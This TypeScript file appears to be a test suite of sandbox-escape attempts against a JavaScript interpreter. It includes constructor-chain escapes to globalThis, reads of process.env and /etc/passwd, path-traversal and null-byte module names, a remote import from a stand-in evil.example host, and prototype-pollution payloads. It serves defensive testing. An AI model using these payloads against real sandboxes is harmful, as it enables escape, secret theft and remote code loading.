import type { Attempt } from './attempt.ts'

/** Checks that an object's constructors lead only to the inside. Returns a word. */
const CHAIN = `const chain = (value) => {
  const global = value.constructor.constructor('return globalThis')()
  return { v: global === globalThis ? 'inside' : Object.getOwnPropertyNames(global).join() }
};`

const INSIDE = { v: 'inside' }

/** Ways to the host's objects through what every object has. */
export const CONSTRUCTORS: readonly Attempt[] = [
  { name: 'an object literal', body: `${CHAIN} return chain({})`, returns: INSIDE },
  { name: 'the argument itself', body: `${CHAIN} return chain(token)`, returns: INSIDE },
  { name: 'fetch', body: `${CHAIN} return chain(fetch)`, returns: INSIDE },
  { name: 'console.log', body: `${CHAIN} return chain(console.log)`, returns: INSIDE },
  {
    name: 'the key of Web Crypto',
    body: `${CHAIN} return chain(await crypto.subtle.importKey('raw', new Uint8Array(8), { name: 'HMAC', hash: 'SHA-256' }, true, ['sign']))`,
    returns: INSIDE,
  },
  {
    name: 'a result of Web Crypto',
    body: `${CHAIN} return chain(await crypto.subtle.digest('SHA-256', new Uint8Array(1)))`,
    returns: INSIDE,
  },
  {
    name: 'an error of URL',
    body: `${CHAIN} try { new URL('::') } catch (error) { return chain(error) }`,
    returns: INSIDE,
  },
  {
    name: 'an error of fetch',
    body: `${CHAIN} try { await fetch('https://none.example') } catch (error) { return chain(error) }`,
    returns: INSIDE,
  },
  {
    name: 'an error of an import',
    body: `${CHAIN} try { await import('node' + ':fs') } catch (error) { return chain(error) }`,
    returns: INSIDE,
  },
  {
    name: 'an async function',
    body: `return { v: (async () => {}).constructor('return globalThis')() instanceof Promise ? 'inside' : 'out' }`,
    returns: INSIDE,
  },
  {
    name: 'a generator function',
    body: `return { v: (function* () {}).constructor('yield globalThis')().next().value === globalThis ? 'inside' : 'out' }`,
    returns: INSIDE,
  },
  {
    name: 'the caller',
    body: `try { return { v: typeof (function f() { return f.caller })() } } catch { return { v: 'refused' } }`,
    returns: expectOneOf('undefined', 'object', 'refused'),
  },
  {
    name: 'the stack of an error',
    body: `return { v: /node_modules|file:|\\.test\\.|authscope\\/src/.test(new Error('x').stack) }`,
    returns: { v: false },
  },
  {
    name: 'Error.prepareStackTrace',
    body: `Error.prepareStackTrace = (_, frames) => frames; try { null.x } catch (error) { return { v: typeof error.stack } }`,
    returns: { v: 'string' },
  },
  {
    name: 'the text of a native function',
    body: `return { v: /\\/work|\\/home|node:|Emscripten/.test(Function.prototype.toString.call(fetch) + Function.prototype.toString.call(URL)) }`,
    returns: { v: false },
  },
]

function expectOneOf(...words: readonly string[]): { readonly v: { readonly oneOf: readonly string[] } } {
  return { v: { oneOf: words } }
}

const NAMES =
  'self window document navigator location postMessage importScripts require module exports WebAssembly Atomics XMLHttpRequest WebSocket indexedDB caches localStorage sessionStorage Worker SharedWorker MessageChannel BroadcastChannel Deno clients registration'

/** Globals of a page, a worker or Node, and ways to the interpreter's own parts. */
export const GLOBALS: readonly Attempt[] = [
  {
    name: 'names of page, worker and Node',
    body: `return { v: '${NAMES}'.split(' ').filter((name) => name in globalThis).join() }`,
    returns: { v: '' },
  },
  {
    name: 'what process can do',
    body: `return { v: ['binding', 'kill', 'mainModule', 'dlopen', 'chdir'].filter((name) => name in process).join() }`,
    returns: { v: '' },
  },
  {
    name: 'what Bun can do',
    body: `return { v: Object.keys(Bun).join() }`,
    returns: { v: 'env,password' },
  },
  {
    name: 'the host’s environment',
    body: `return { v: Object.keys(process.env).join() }`,
    returns: { v: 'NODE_ENV,AUTH_SECRET' },
  },
  {
    name: 'the function to the host by its name',
    body: `return { v: typeof host + typeof callHost + typeof Module }`,
    returns: { v: 'undefinedundefinedundefined' },
  },
  {
    name: 'the function to the host through a replaced JSON.stringify',
    body: `let seen; JSON.stringify = function () { seen = this; return 'null' }; try { new URL('https://a.example') } catch {} return { v: seen === JSON || seen === undefined }`,
    returns: undefined,
  },
  { name: 'the interpreter’s module', body: `await import('authscope:inside')`, fails: 'cannot import' },
  {
    name: 'a file of the host',
    body: `const found = await import('file:///etc/passwd'); return { v: found.text() }`,
    returns: { v: true },
  },
  {
    name: 'a file above the project',
    body: `const found = await import('../../../../../../etc/passwd'); return { v: found.text() }`,
    returns: { v: true },
  },
  { name: 'a module of Node', body: `await import('node' + ':child_process')`, fails: 'cannot import' },
  {
    name: 'a module as data',
    body: `const found = await import('data:text/javascript,export default 1'); return { v: found.text() }`,
    returns: { v: true },
  },
  {
    name: 'a module from the network',
    body: `const found = await import('https://evil.example/x.js'); return { v: found.text() }`,
    returns: { v: true },
  },
  {
    name: 'a module called constructor',
    body: `const { prototype } = await import('constructor'); return { v: prototype() }`,
    returns: { v: true },
  },
  {
    name: 'a module called __proto__',
    body: `const { polluted } = await import('__proto__'); return { v: polluted() }`,
    returns: { v: true },
  },
  { name: 'a module without a name', body: `await import('')`, fails: 'cannot import' },
  { name: 'a module whose name is null', body: `await import(null)`, fails: 'cannot import' },
  {
    name: 'a module name with an end in it',
    body: `await import('next-auth\\0/../../etc/passwd')`,
    fails: /./,
  },
  {
    name: 'a module name that changes while it is read',
    body: `let times = 0; await import({ toString: () => (times++ ? 'node:fs' : 'node:os') })`,
    fails: 'cannot import',
  },
]

/** What a result may do to the host's prototypes. */
export const POLLUTION: readonly Attempt[] = [
  {
    name: '__proto__ from JSON',
    body: `return JSON.parse('{"a":1,"__proto__":{"polluted":1}}')`,
    returns: { a: 1 },
  },
  {
    name: '__proto__ as a computed key',
    body: `return { ['__proto__']: { polluted: 1 }, a: 1 }`,
    returns: { a: 1 },
  },
  {
    name: '__proto__ deep inside',
    body: `return { a: [JSON.parse('{"__proto__":{"polluted":1}}')] }`,
    returns: { a: [{}] },
  },
  {
    name: '__proto__ written to the argument',
    body: `Object.defineProperty(token, '__proto__', { value: { polluted: 1 }, enumerable: true }); return token`,
    returns: { sub: '1' },
  },
  {
    name: 'constructor.prototype',
    body: `return { constructor: { prototype: { polluted: 1 } } }`,
    returns: { constructor: { prototype: { polluted: 1 } } },
  },
  {
    name: 'a list with __proto__',
    body: `const list = [1]; Object.defineProperty(list, '__proto__', { value: { polluted: 1 }, enumerable: true }); return { list }`,
    returns: { list: [1] },
  },
  {
    name: 'an error with __proto__',
    body: `throw Object.assign(new Error('boom'), JSON.parse('{"__proto__":{"polluted":1}}'))`,
    fails: /./,
  },
  {
    name: 'Object.prototype inside',
    body: `Object.prototype.polluted = 1; return { a: 1 }`,
    returns: { a: 1 },
  },
  {
    name: 'Array.prototype.push inside',
    body: `Array.prototype.push = function () { return 0 }; return { a: 1 }`,
    returns: undefined,
  },
  { name: 'Map.prototype.get inside', body: `Map.prototype.get = () => 7; return { a: 1 }`, fails: /./ },
  {
    name: 'a replaced JSON.stringify that writes what it likes',
    body: `JSON.stringify = () => '{"__proto__":{"polluted":1}}'; return { a: 1 }`,
    fails: 'malformed',
  },
  {
    name: 'a replaced JSON.stringify that names objects it does not have',
    body: `JSON.stringify = () => '["k",999]'; return { a: 1 }`,
    fails: 'malformed',
  },
  {
    name: 'a replaced JSON.stringify that names functions',
    body: `JSON.stringify = () => '["a",["f",0],["a"]]'; return { a: 1 }`,
    fails: 'malformed',
  },
  {
    name: 'a replaced JSON.stringify that nests without end',
    body: `JSON.stringify = () => '["a",'.repeat(150000) + '1' + ']'.repeat(150000); return {}`,
    fails: /malformed|too-deep|too-large/,
  },
  {
    name: 'a replaced JSON.stringify that changes objects by wrong numbers',
    body: `JSON.stringify = () => '["a",["o"],["a",["a",-1,["a"],["a"]],["a","0",["a"],["a"]],["a",99,["a"],["a"]]]]'; return {}`,
    returns: {},
  },
  {
    name: 'members called like those of every object',
    body: `return { toString: 'a', valueOf: 'b', hasOwnProperty: 'c' }`,
    returns: { toString: 'a', valueOf: 'b', hasOwnProperty: 'c' },
  },
]
